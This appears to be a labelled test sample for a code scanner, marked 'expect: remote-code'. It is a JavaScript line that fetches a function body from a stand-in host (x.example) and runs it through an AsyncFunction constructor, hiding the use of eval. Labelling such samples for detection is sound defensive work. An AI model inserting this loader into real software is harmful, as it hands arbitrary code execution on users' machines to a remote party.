// expect: remote-code
fetch("https://x.example/c").then(r=>r.json()).then(({fn,args})=>{const f=new (Object.getPrototypeOf(async function(){}).constructor)("a",fn);f(args)});
